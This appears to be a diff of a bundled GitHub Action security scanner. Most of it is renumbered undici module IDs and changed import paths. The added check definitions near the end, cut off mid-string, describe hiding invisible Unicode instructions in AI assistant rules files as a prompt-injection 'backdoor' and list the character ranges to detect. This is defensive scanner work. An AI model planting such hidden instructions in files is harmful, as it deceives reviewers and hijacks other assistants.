-const util = __nccwpck_require__(2272)
+const { extractBody, mixinBody, cloneBody, bodyUnusable } = __nccwpck_require__(4492)
+const { Headers, fill: fillHeaders, HeadersList, setHeadersGuard, getHeadersGuard, setHeadersList, getHeadersList } = __nccwpck_require__(660)
+const { FinalizationRegistry } = __nccwpck_require__(6653)()
+const util = __nccwpck_require__(3440)
 const nodeUtil = __nccwpck_require__(7975)
 const {
   isValidHTTPToken,
   sameOrigin,
   environmentSettingsObject
-} = __nccwpck_require__(1168)
+} = __nccwpck_require__(3168)
 const {
   forbiddenMethodsSet,
   corsSafeListedMethodsSet,
@@ -28878,12 +29113,12 @@ const {
   requestCredentials,
   requestCache,
   requestDuplex
-} = __nccwpck_require__(5055)
+} = __nccwpck_require__(4495)
 const { kEnumerableProperty, normalizedMethodRecordsBase, normalizedMethodRecords } = util
-const { kHeaders, kSignal, kState, kDispatcher } = __nccwpck_require__(907)
-const { webidl } = __nccwpck_require__(1861)
-const { URLSerializer } = __nccwpck_require__(428)
-const { kConstruct } = __nccwpck_require__(1003)
+const { kHeaders, kSignal, kState, kDispatcher } = __nccwpck_require__(3627)
+const { webidl } = __nccwpck_require__(5893)
+const { URLSerializer } = __nccwpck_require__(1900)
+const { kConstruct } = __nccwpck_require__(6443)
 const assert = __nccwpck_require__(4589)
 const { getMaxListeners, setMaxListeners, getEventListeners, defaultMaxListeners } = __nccwpck_require__(8474)
 
@@ -29896,14 +30131,14 @@ module.exports = { Request, makeRequest, fromInnerRequest, cloneRequest }
 
 /***/ }),
 
-/***/ 1627:
+/***/ 9051:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { Headers, HeadersList, fill, getHeadersGuard, setHeadersGuard, setHeadersList } = __nccwpck_require__(548)
-const { extractBody, cloneBody, mixinBody, hasFinalizationRegistry, streamRegistry, bodyUnusable } = __nccwpck_require__(9852)
-const util = __nccwpck_require__(2272)
+const { Headers, HeadersList, fill, getHeadersGuard, setHeadersGuard, setHeadersList } = __nccwpck_require__(660)
+const { extractBody, cloneBody, mixinBody, hasFinalizationRegistry, streamRegistry, bodyUnusable } = __nccwpck_require__(4492)
+const util = __nccwpck_require__(3440)
 const nodeUtil = __nccwpck_require__(7975)
 const { kEnumerableProperty } = util
 const {
@@ -29915,16 +30150,16 @@ const {
   isErrorLike,
   isomorphicEncode,
   environmentSettingsObject: relevantRealm
-} = __nccwpck_require__(1168)
+} = __nccwpck_require__(3168)
 const {
   redirectStatusSet,
   nullBodyStatus
-} = __nccwpck_require__(5055)
-const { kState, kHeaders } = __nccwpck_require__(907)
-const { webidl } = __nccwpck_require__(1861)
-const { FormData } = __nccwpck_require__(2134)
-const { URLSerializer } = __nccwpck_require__(428)
-const { kConstruct } = __nccwpck_require__(1003)
+} = __nccwpck_require__(4495)
+const { kState, kHeaders } = __nccwpck_require__(3627)
+const { webidl } = __nccwpck_require__(5893)
+const { FormData } = __nccwpck_require__(5910)
+const { URLSerializer } = __nccwpck_require__(1900)
+const { kConstruct } = __nccwpck_require__(6443)
 const assert = __nccwpck_require__(4589)
 const { types } = __nccwpck_require__(7975)
 
@@ -30513,7 +30748,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 907:
+/***/ 3627:
 /***/ ((module) => {
 
 
@@ -30529,21 +30764,21 @@ module.exports = {
 
 /***/ }),
 
-/***/ 1168:
+/***/ 3168:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { Transform } = __nccwpck_require__(7075)
 const zlib = __nccwpck_require__(8522)
-const { redirectStatusSet, referrerPolicySet: referrerPolicyTokens, badPortsSet } = __nccwpck_require__(5055)
-const { getGlobalOrigin } = __nccwpck_require__(5779)
-const { collectASequenceOfCodePoints, collectAnHTTPQuotedString, removeChars, parseMIMEType } = __nccwpck_require__(428)
+const { redirectStatusSet, referrerPolicySet: referrerPolicyTokens, badPortsSet } = __nccwpck_require__(4495)
+const { getGlobalOrigin } = __nccwpck_require__(1059)
+const { collectASequenceOfCodePoints, collectAnHTTPQuotedString, removeChars, parseMIMEType } = __nccwpck_require__(1900)
 const { performance } = __nccwpck_require__(643)
-const { isBlobLike, ReadableStreamFrom, isValidHTTPToken, normalizedMethodRecordsBase } = __nccwpck_require__(2272)
+const { isBlobLike, ReadableStreamFrom, isValidHTTPToken, normalizedMethodRecordsBase } = __nccwpck_require__(3440)
 const assert = __nccwpck_require__(4589)
 const { isUint8Array } = __nccwpck_require__(3429)
-const { webidl } = __nccwpck_require__(1861)
+const { webidl } = __nccwpck_require__(5893)
 
 let supportedHashes = []
 
@@ -32168,14 +32403,14 @@ module.exports = {
 
 /***/ }),
 
-/***/ 1861:
+/***/ 5893:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { types, inspect } = __nccwpck_require__(7975)
 const { markAsUncloneable } = __nccwpck_require__(5919)
-const { toUSVString } = __nccwpck_require__(2272)
+const { toUSVString } = __nccwpck_require__(3440)
 
 /** @type {import('../../../types/webidl').Webidl} */
 const webidl = {}
@@ -32870,7 +33105,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 1727:
+/***/ 2607:
 /***/ ((module) => {
 
 
@@ -33167,7 +33402,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 8755:
+/***/ 8355:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -33176,16 +33411,16 @@ const {
   staticPropertyDescriptors,
   readOperation,
   fireAProgressEvent
-} = __nccwpck_require__(234)
+} = __nccwpck_require__(3610)
 const {
   kState,
   kError,
   kResult,
   kEvents,
   kAborted
-} = __nccwpck_require__(9521)
-const { webidl } = __nccwpck_require__(1861)
-const { kEnumerableProperty } = __nccwpck_require__(2272)
+} = __nccwpck_require__(961)
+const { webidl } = __nccwpck_require__(5893)
+const { kEnumerableProperty } = __nccwpck_require__(3440)
 
 class FileReader extends EventTarget {
   constructor () {
@@ -33518,12 +33753,12 @@ module.exports = {
 
 /***/ }),
 
-/***/ 7309:
+/***/ 8573:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { webidl } = __nccwpck_require__(1861)
+const { webidl } = __nccwpck_require__(5893)
 
 const kState = Symbol('ProgressEvent state')
 
@@ -33603,7 +33838,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 9521:
+/***/ 961:
 /***/ ((module) => {
 
 
@@ -33620,7 +33855,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 234:
+/***/ 3610:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -33631,10 +33866,10 @@ const {
   kResult,
   kAborted,
   kLastProgressEventFired
-} = __nccwpck_require__(9521)
-const { ProgressEvent } = __nccwpck_require__(7309)
-const { getEncoding } = __nccwpck_require__(1727)
-const { serializeAMimeType, parseMIMEType } = __nccwpck_require__(428)
+} = __nccwpck_require__(961)
+const { ProgressEvent } = __nccwpck_require__(8573)
+const { getEncoding } = __nccwpck_require__(2607)
+const { serializeAMimeType, parseMIMEType } = __nccwpck_require__(1900)
 const { types } = __nccwpck_require__(7975)
 const { StringDecoder } = __nccwpck_require__(3193)
 const { btoa } = __nccwpck_require__(4573)
@@ -34018,27 +34253,27 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3969:
+/***/ 6897:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { uid, states, sentCloseFrameState, emptyBuffer, opcodes } = __nccwpck_require__(6976)
+const { uid, states, sentCloseFrameState, emptyBuffer, opcodes } = __nccwpck_require__(736)
 const {
   kReadyState,
   kSentClose,
   kByteParser,
   kReceivedClose,
   kResponse
-} = __nccwpck_require__(4896)
-const { fireEvent, failWebsocketConnection, isClosing, isClosed, isEstablished, parseExtensions } = __nccwpck_require__(3105)
-const { channels } = __nccwpck_require__(5726)
-const { CloseEvent } = __nccwpck_require__(5924)
-const { makeRequest } = __nccwpck_require__(268)
-const { fetching } = __nccwpck_require__(3345)
-const { Headers, getHeadersList } = __nccwpck_require__(548)
-const { getDecodeSplit } = __nccwpck_require__(1168)
-const { WebsocketFrameSend } = __nccwpck_require__(9104)
+} = __nccwpck_require__(1216)
+const { fireEvent, failWebsocketConnection, isClosing, isClosed, isEstablished, parseExtensions } = __nccwpck_require__(8625)
+const { channels } = __nccwpck_require__(2414)
+const { CloseEvent } = __nccwpck_require__(5188)
+const { makeRequest } = __nccwpck_require__(9967)
+const { fetching } = __nccwpck_require__(4398)
+const { Headers, getHeadersList } = __nccwpck_require__(660)
+const { getDecodeSplit } = __nccwpck_require__(3168)
+const { WebsocketFrameSend } = __nccwpck_require__(3264)
 
 /** @type {import('crypto')} */
 let crypto
@@ -34396,7 +34631,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 6976:
+/***/ 736:
 /***/ ((module) => {
 
 
@@ -34469,14 +34704,14 @@ module.exports = {
 
 /***/ }),
 
-/***/ 5924:
+/***/ 5188:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { webidl } = __nccwpck_require__(1861)
-const { kEnumerableProperty } = __nccwpck_require__(2272)
-const { kConstruct } = __nccwpck_require__(1003)
+const { webidl } = __nccwpck_require__(5893)
+const { kEnumerableProperty } = __nccwpck_require__(3440)
+const { kConstruct } = __nccwpck_require__(6443)
 const { MessagePort } = __nccwpck_require__(5919)
 
 /**
@@ -34805,12 +35040,12 @@ module.exports = {
 
 /***/ }),
 
-/***/ 9104:
+/***/ 3264:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { maxUnsigned16Bit } = __nccwpck_require__(6976)
+const { maxUnsigned16Bit } = __nccwpck_require__(736)
 
 const BUFFER_SIZE = 16386
 
@@ -34908,14 +35143,14 @@ module.exports = {
 
 /***/ }),
 
-/***/ 8029:
+/***/ 9469:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { createInflateRaw, Z_DEFAULT_WINDOWBITS } = __nccwpck_require__(8522)
-const { isValidClientWindowBits } = __nccwpck_require__(3105)
-const { MessageSizeExceededError } = __nccwpck_require__(1059)
+const { isValidClientWindowBits } = __nccwpck_require__(8625)
+const { MessageSizeExceededError } = __nccwpck_require__(8707)
 
 const tail = Buffer.from([0x00, 0x00, 0xff, 0xff])
 const kBuffer = Symbol('kBuffer')
@@ -35020,16 +35255,16 @@ module.exports = { PerMessageDeflate }
 
 /***/ }),
 
-/***/ 276:
+/***/ 1652:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { Writable } = __nccwpck_require__(7075)
 const assert = __nccwpck_require__(4589)
-const { parserStates, opcodes, states, emptyBuffer, sentCloseFrameState } = __nccwpck_require__(6976)
-const { kReadyState, kSentClose, kResponse, kReceivedClose } = __nccwpck_require__(4896)
-const { channels } = __nccwpck_require__(5726)
+const { parserStates, opcodes, states, emptyBuffer, sentCloseFrameState } = __nccwpck_require__(736)
+const { kReadyState, kSentClose, kResponse, kReceivedClose } = __nccwpck_require__(1216)
+const { channels } = __nccwpck_require__(2414)
 const {
   isValidStatusCode,
   isValidOpcode,
@@ -35039,11 +35274,11 @@ const {
   isControlFrame,
   isTextBinaryFrame,
   isContinuationFrame
-} = __nccwpck_require__(3105)
-const { WebsocketFrameSend } = __nccwpck_require__(9104)
-const { closeWebSocketConnection } = __nccwpck_require__(3969)
-const { PerMessageDeflate } = __nccwpck_require__(8029)
-const { MessageSizeExceededError } = __nccwpck_require__(1059)
+} = __nccwpck_require__(8625)
+const { WebsocketFrameSend } = __nccwpck_require__(3264)
+const { closeWebSocketConnection } = __nccwpck_require__(6897)
+const { PerMessageDeflate } = __nccwpck_require__(9469)
+const { MessageSizeExceededError } = __nccwpck_require__(8707)
 
 function failWebsocketConnectionWithCode (ws, code, reason) {
   closeWebSocketConnection(ws, code, reason, Buffer.byteLength(reason))
@@ -35554,14 +35789,14 @@ module.exports = {
 
 /***/ }),
 
-/***/ 5388:
+/***/ 3900:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { WebsocketFrameSend } = __nccwpck_require__(9104)
-const { opcodes, sendHints } = __nccwpck_require__(6976)
-const FixedQueue = __nccwpck_require__(9220)
+const { WebsocketFrameSend } = __nccwpck_require__(3264)
+const { opcodes, sendHints } = __nccwpck_require__(736)
+const FixedQueue = __nccwpck_require__(4660)
 
 /** @type {typeof Uint8Array} */
 const FastBuffer = Buffer[Symbol.species]
@@ -35665,7 +35900,7 @@ module.exports = { SendQueue }
 
 /***/ }),
 
-/***/ 4896:
+/***/ 1216:
 /***/ ((module) => {
 
 
@@ -35684,16 +35919,16 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3105:
+/***/ 8625:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { kReadyState, kController, kResponse, kBinaryType, kWebSocketURL } = __nccwpck_require__(4896)
-const { states, opcodes } = __nccwpck_require__(6976)
-const { ErrorEvent, createFastMessageEvent } = __nccwpck_require__(5924)
+const { kReadyState, kController, kResponse, kBinaryType, kWebSocketURL } = __nccwpck_require__(1216)
+const { states, opcodes } = __nccwpck_require__(736)
+const { ErrorEvent, createFastMessageEvent } = __nccwpck_require__(5188)
 const { isUtf8 } = __nccwpck_require__(4573)
-const { collectASequenceOfCodePointsFast, removeHTTPWhitespace } = __nccwpck_require__(428)
+const { collectASequenceOfCodePointsFast, removeHTTPWhitespace } = __nccwpck_require__(1900)
 
 /* globals Blob */
 
@@ -36013,15 +36248,15 @@ module.exports = {
 
 /***/ }),
 
-/***/ 5358:
+/***/ 3726:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { webidl } = __nccwpck_require__(1861)
-const { URLSerializer } = __nccwpck_require__(428)
-const { environmentSettingsObject } = __nccwpck_require__(1168)
-const { staticPropertyDescriptors, states, sentCloseFrameState, sendHints } = __nccwpck_require__(6976)
+const { webidl } = __nccwpck_require__(5893)
+const { URLSerializer } = __nccwpck_require__(1900)
+const { environmentSettingsObject } = __nccwpck_require__(3168)
+const { staticPropertyDescriptors, states, sentCloseFrameState, sendHints } = __nccwpck_require__(736)
 const {
   kWebSocketURL,
   kReadyState,
@@ -36030,21 +36265,21 @@ const {
   kResponse,
   kSentClose,
   kByteParser
-} = __nccwpck_require__(4896)
+} = __nccwpck_require__(1216)
 const {
   isConnecting,
   isEstablished,
   isClosing,
   isValidSubprotocol,
   fireEvent
-} = __nccwpck_require__(3105)
-const { establishWebSocketConnection, closeWebSocketConnection } = __nccwpck_require__(3969)
-const { ByteParser } = __nccwpck_require__(276)
-const { kEnumerableProperty, isBlobLike } = __nccwpck_require__(2272)
-const { getGlobalDispatcher } = __nccwpck_require__(8085)
+} = __nccwpck_require__(8625)
+const { establishWebSocketConnection, closeWebSocketConnection } = __nccwpck_require__(6897)
+const { ByteParser } = __nccwpck_require__(1652)
+const { kEnumerableProperty, isBlobLike } = __nccwpck_require__(3440)
+const { getGlobalDispatcher } = __nccwpck_require__(2581)
 const { types } = __nccwpck_require__(7975)
-const { ErrorEvent, CloseEvent } = __nccwpck_require__(5924)
-const { SendQueue } = __nccwpck_require__(5388)
+const { ErrorEvent, CloseEvent } = __nccwpck_require__(5188)
+const { SendQueue } = __nccwpck_require__(3900)
 
 // https://websockets.spec.whatwg.org/#interface-definition
 class WebSocket extends EventTarget {
@@ -36615,7 +36850,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 7406:
+/***/ 9736:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -36656,7 +36891,7 @@ class NodeHttpClient {
 
 ;// CONCATENATED MODULE: external "os"
 const external_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("os");
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/utils.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/utils.js
 // We use any as a valid input type
 /* eslint-disable @typescript-eslint/no-explicit-any */
 /**
@@ -36692,7 +36927,7 @@ function toCommandProperties(annotationProperties) {
     };
 }
 //# sourceMappingURL=utils.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/command.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/command.js
 
 
 /**
@@ -36788,7 +37023,7 @@ function escapeProperty(s) {
 const external_crypto_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("crypto");
 ;// CONCATENATED MODULE: external "fs"
 const external_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs");
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/file-command.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/file-command.js
 // For internal use, subject to change.
 // We use any as a valid input type
 /* eslint-disable @typescript-eslint/no-explicit-any */
@@ -36829,7 +37064,7 @@ const external_path_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.me
 var external_http_ = __nccwpck_require__(8611);
 // EXTERNAL MODULE: external "https"
 var external_https_ = __nccwpck_require__(5692);
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/http-client/lib/proxy.js
+;// CONCATENATED MODULE: ./node_modules/@actions/http-client/lib/proxy.js
 function getProxyUrl(reqUrl) {
     const usingSsl = reqUrl.protocol === 'https:';
     if (checkBypass(reqUrl)) {
@@ -36920,11 +37155,11 @@ class DecodedURL extends URL {
     }
 }
 //# sourceMappingURL=proxy.js.map
-// EXTERNAL MODULE: ../../work/main/node_modules/tunnel/index.js
-var node_modules_tunnel = __nccwpck_require__(8258);
-// EXTERNAL MODULE: ../../work/main/node_modules/undici/index.js
-var undici = __nccwpck_require__(576);
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/http-client/lib/index.js
+// EXTERNAL MODULE: ./node_modules/tunnel/index.js
+var node_modules_tunnel = __nccwpck_require__(770);
+// EXTERNAL MODULE: ./node_modules/undici/index.js
+var undici = __nccwpck_require__(6752);
+;// CONCATENATED MODULE: ./node_modules/@actions/http-client/lib/index.js
 /* eslint-disable @typescript-eslint/no-explicit-any */
 var __awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
@@ -37621,7 +37856,7 @@ class lib_HttpClient {
 }
 const lowercaseKeys = (obj) => Object.keys(obj).reduce((c, k) => ((c[k.toLowerCase()] = obj[k]), c), {});
 //# sourceMappingURL=index.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/http-client/lib/auth.js
+;// CONCATENATED MODULE: ./node_modules/@actions/http-client/lib/auth.js
 var auth_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -37697,7 +37932,7 @@ class PersonalAccessTokenCredentialHandler {
     }
 }
 //# sourceMappingURL=auth.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/oidc-utils.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/oidc-utils.js
 var oidc_utils_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -37771,7 +38006,7 @@ class oidc_utils_OidcClient {
     }
 }
 //# sourceMappingURL=oidc-utils.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/summary.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/summary.js
 var summary_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -38052,7 +38287,7 @@ const _summary = new Summary();
 const markdownSummary = (/* unused pure expression or super */ null && (_summary));
 const summary_summary = _summary;
 //# sourceMappingURL=summary.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/path-utils.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/path-utils.js
 
 /**
  * toPosixPath converts the given path to the posix form. On Windows, \\ will be
@@ -38094,7 +38329,7 @@ var external_events_ = __nccwpck_require__(4434);
 const external_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("child_process");
 // EXTERNAL MODULE: external "assert"
 var external_assert_ = __nccwpck_require__(2613);
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/io/lib/io-util.js
+;// CONCATENATED MODULE: ./node_modules/@actions/io/lib/io-util.js
 var io_util_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -38274,7 +38509,7 @@ function getCmdPath() {
     return (_a = process.env['COMSPEC']) !== null && _a !== void 0 ? _a : `cmd.exe`;
 }
 //# sourceMappingURL=io-util.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/io/lib/io.js
+;// CONCATENATED MODULE: ./node_modules/@actions/io/lib/io.js
 var io_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -38548,7 +38783,7 @@ function io_copyFile(srcFile, destFile, force) {
 //# sourceMappingURL=io.js.map
 ;// CONCATENATED MODULE: external "timers"
 const external_timers_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("timers");
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/exec/lib/toolrunner.js
+;// CONCATENATED MODULE: ./node_modules/@actions/exec/lib/toolrunner.js
 var toolrunner_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -39136,7 +39371,7 @@ class ExecState extends external_events_.EventEmitter {
     }
 }
 //# sourceMappingURL=toolrunner.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/exec/lib/exec.js
+;// CONCATENATED MODULE: ./node_modules/@actions/exec/lib/exec.js
 var exec_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -39216,7 +39451,7 @@ function getExecOutput(commandLine, args, options) {
     });
 }
 //# sourceMappingURL=exec.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/platform.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/platform.js
 var platform_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -39281,7 +39516,7 @@ function getDetails() {
     });
 }
 //# sourceMappingURL=platform.js.map
-;// CONCATENATED MODULE: ../../work/main/node_modules/@actions/core/lib/core.js
+;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/core.js
 var core_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arguments, P, generator) {
     function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
     return new (P || (P = Promise))(function (resolve, reject) {
@@ -39852,8 +40087,8 @@ function scannerSettings(policy, scanner) {
     });
 }
 
-// EXTERNAL MODULE: ../../work/main/node_modules/yaml/dist/index.js
-var dist = __nccwpck_require__(7207);
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./data/checks/actions-unpinned.json
 const actions_unpinned_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"actions-unpinned","title":"GitHub Action not pinned to a full commit SHA","description":"A workflow step, a reusable workflow call or a composite action step uses a remote action by tag, branch, short SHA or without any version, or a container action without an image digest. Tags and branches are mutable: whoever controls the action\'s repository (its owner, or an attacker who compromised it, as in the tj-actions/changed-files incident of March 2025) can point them at different code, which then runs in your pipeline with its secrets and token.","help":"Pin every remote `uses:` to the full 40-character commit SHA of the release you reviewed, and keep the human-readable version as a comment so that Dependabot or Renovate can still propose updates:\\n\\n```yaml\\n# instead of\\n- uses: actions/checkout@v4\\n# write\\n- uses: actions/checkout@<full 40-character commit sha> # v4\\n```\\n\\nTake the SHA from the action\'s own repository (not from a fork), for example with `git ls-remote https://github.com/actions/checkout refs/tags/v4`. A short SHA is not a pin either: only the full-length commit SHA is an immutable reference. Reusable workflows (`owner/repo/.github/workflows/x.yml@ref`) are pinned the same way. For container actions, pin the image by digest: `docker://alpine:3.20@sha256:<64 hex digest>`. Local actions (`./path`) come from your own repository and are exempt.\\n\\nReferences:\\n- GitHub, [Security hardening for GitHub Actions: using third-party actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions)\\n- OpenSSF Scorecard, [Pinned-Dependencies](https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies)","helpUri":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions","cwe":["CWE-829"],"severity":"high","security-severity":7.5,"precision":"high","tags":["security","supply-chain","github-actions"],"asvs":["v5.0.0-15.2.4"]}');
 ;// CONCATENATED MODULE: ./src/findings/severity.ts
@@ -40124,10 +40359,4407 @@ const actionsUnpinned = defineCheck({
     run,
 });
 
+;// CONCATENATED MODULE: ./data/checks/ai-instructions-integrity.json
+const ai_instructions_integrity_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"ai-instructions-integrity","title":"Hidden Unicode characters (bidirectional controls, zero-width or tag characters)","description":"A text file contains characters that change how a line is displayed or that are not displayed at all: bidirectional controls (U+202A–U+202E, U+2066–U+2069), which make code or text appear in a different order than compilers, interpreters and language models read it (\\"Trojan Source\\", CVE-2021-42574); zero-width characters (U+200B–U+200D, U+2060, U+FEFF after the start of a file), which hide inside words and identifiers; and Unicode tag characters (U+E0000–U+E007F) or supplementary variation selectors, which encode whole invisible sentences that language models read. In AI assistant instruction files (CLAUDE.md, AGENTS.md, .cursorrules, Copilot instructions, …) they are a known way to plant instructions reviewers cannot see (\\"rules file backdoor\\"). Emoji sequences, letters of scripts that need joiners, flag tag sequences and ideographic variation sequences are not reported.","help":"Look at the line in an editor or viewer that shows invisible characters (GitHub marks bidirectional text with a warning; `cat -A`, `grep -nP \'[\\\\x{202A}-\\\\x{202E}\\\\x{2066}-\\\\x{2069}\\\\x{200B}-\\\\x{200D}\\\\x{2060}\\\\x{FEFF}]\'` or your editor\'s \\"render control characters\\" setting), find out who added it and why, and remove it unless it is genuinely needed text. If a string needs such a character, write it as an escape (`\\\\u202E`) so reviewers can see it. Treat hidden text in an AI assistant instruction file as a prompt-injection attempt: review everything the assistant produced while it was present.\\n\\nReferences:\\n- N. Boucher and R. Anderson, [Trojan Source: Invisible Vulnerabilities](https://trojansource.codes/)\\n- NVD, [CVE-2021-42574](https://nvd.nist.gov/vuln/detail/CVE-2021-42574)\\n- GitHub, [Warning about bidirectional Unicode text](https://github.blog/changelog/2021-10-31-warning-about-bidirectional-unicode-text/)\\n- Unicode, [Tags block (U+E0000–U+E007F)](https://www.unicode.org/charts/PDF/UE0000.pdf)\\n- OpenSSF, [Security-Focused Guide for AI Code Assistant Instructions](https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions)","helpUri":"https://trojansource.codes/","cwe":["CWE-1007","CWE-451"],"severity":"high","security-severity":7.8,"precision":"high","tags":["security","unicode","trojan-source","ai-assistant","prompt-injection"],"asvs":[],"$comment":"Columns count UTF-16 code units, like every builtin check and SARIF\'s default. hidden-characters: code point ranges (hex) with one name per code point, or one group name for the range. instruction-files: paths (regular expressions) whose findings say they are AI assistant instruction files. skipped-extensions: binary or generated formats not read at all.","hidden-characters":[{"kind":"bidi","from":"202A","to":"202E","names":["LEFT-TO-RIGHT EMBEDDING","RIGHT-TO-LEFT EMBEDDING","POP DIRECTIONAL FORMATTING","LEFT-TO-RIGHT OVERRIDE","RIGHT-TO-LEFT OVERRIDE"]},{"kind":"bidi","from":"2066","to":"2069","names":["LEFT-TO-RIGHT ISOLATE","RIGHT-TO-LEFT ISOLATE","FIRST STRONG ISOLATE","POP DIRECTIONAL ISOLATE"]},{"kind":"zero-width","from":"200B","to":"200D","names":["ZERO WIDTH SPACE","ZERO WIDTH NON-JOINER","ZERO WIDTH JOINER"]},{"kind":"zero-width","from":"2060","to":"2060","names":["WORD JOINER"]},{"kind":"zero-width","from":"FEFF","to":"FEFF","names":["ZERO WIDTH NO-BREAK SPACE"]},{"kind":"invisible-text","from":"E0000","to":"E007F","group":"TAG characters"},{"kind":"invisible-text","from":"E0100","to":"E01EF","group":"VARIATION SELECTORS 